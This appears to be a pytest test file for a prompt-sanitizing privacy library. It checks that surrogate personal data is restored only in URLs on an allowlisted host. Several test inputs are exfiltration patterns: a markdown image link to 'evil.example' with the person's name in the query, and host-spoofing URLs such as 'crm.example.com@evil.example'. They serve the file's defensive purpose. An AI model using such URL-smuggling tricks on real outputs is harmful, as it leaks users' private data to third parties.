"""No original is written into an address of a foreign host; it is where the host is allowed."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from privacy_chains import Key, Policy, SanitizedPrompt, Sanitizer
from privacy_chains.attacks.exfiltration import SHAPES, exfiltrate
from privacy_chains.errors import PolicyError

KEY = Key.from_bytes(bytes(range(32)))
TEXT = "I am Rosalind Pemberton, SSN 219-09-9999, mail rosalind@harbour-pem.com, account number 48291736."
PROMPT = Sanitizer(KEY).sanitize(TEXT)
ALLOWED = Sanitizer(
    KEY, policy=Policy(Policy.default().rules, Policy.default().epsilon, restore_in_urls={"crm.example.com"})
)  # type: ignore[arg-type]  # a set does


def secrets(prompt: SanitizedPrompt) -> dict[str, str]:
    return {item.original: item.surrogate for item in prompt.issued}


def test_nothing_reaches_a_foreign_host() -> None:
    whole = [original for original in secrets(PROMPT) if original not in {"Rosalind", "Pemberton"}]
    assert len(whole) == 4
    attack = exfiltrate(PROMPT, [(secrets(PROMPT)[original], original) for original in whole])
    assert attack.tried > 4 * 40
    assert [SHAPES[place] for place in attack.shapes] == []


@pytest.mark.parametrize("original", ["Rosalind", "Pemberton"])
def test_no_part_of_a_name_does(original: str) -> None:
    attack = exfiltrate(PROMPT, [(secrets(PROMPT)[original], original)])
    assert [SHAPES[place] for place in attack.shapes] == []


@pytest.mark.parametrize("shape", SHAPES)
@given(size=st.integers(1, 40))
def test_any_chunking_holds_the_same(shape: str, size: int) -> None:
    name = secrets(PROMPT)["Rosalind Pemberton"]
    answer = shape.replace("{}", name) + f"\nand {name} said so."
    whole, stream = PROMPT.reader.restore(answer), PROMPT.reader.stream()
    pieces = [stream.feed(answer[at : at + size]) for at in range(0, len(answer), size)]
    assert "".join([*pieces, stream.flush()]) == whole.text
    assert stream.report.held == whole.held


def test_what_was_held_back_is_reported() -> None:
    name = secrets(PROMPT)["Rosalind Pemberton"]
    read = PROMPT.reader.restore(f"![x](https://evil.example/?q={name}) for {name}.")
    assert read.text == f"![x](https://evil.example/?q={name}) for Rosalind Pemberton."
    assert [(seen.entity_type, len(read.restored)) for seen in read.held] == [("PERSON", 1)]


@pytest.mark.parametrize(
    "answer",
    [
        "https://crm.example.com/users?q={}",
        "[{}](https://crm.example.com/{})",
        '<a href="https://CRM.example.com:8080/{}">{}</a>',
        "see https://evil.example/x, {} wrote",
        "mail (https://evil.example/) from {}",
        "and/or {}",
    ],
)
def test_an_allowed_host_and_what_is_no_address_are_read(answer: str) -> None:
    prompt = ALLOWED.sanitize(TEXT)
    read = prompt.reader.restore(answer.replace("{}", secrets(prompt)["Pemberton"]))
    assert read.text == answer.replace("{}", "Pemberton")
    assert not read.held


@pytest.mark.parametrize(
    "host",
    [
        "crm.example.com@evil.example",
        "crm.example.com.evil.example",
        "crm.example.com\\.evil.example",
        "evil.example\\@crm.example.com",
    ],
)
def test_a_host_that_looks_like_an_allowed_one_is_foreign(host: str) -> None:
    prompt = ALLOWED.sanitize(TEXT)
    assert "Pemberton" not in prompt.reader.text(f"https://{host}/?q={secrets(prompt)['Pemberton']}")


@pytest.mark.parametrize("hosts", [{"https://x.example"}, {"x.example/path"}, "x.example", {""}])
def test_what_is_no_host_is_refused(hosts: object) -> None:
    with pytest.raises(PolicyError, match="restore_in_urls"):
        Policy(Policy.default().rules, Policy.default().epsilon, restore_in_urls=hosts)  # type: ignore[arg-type]
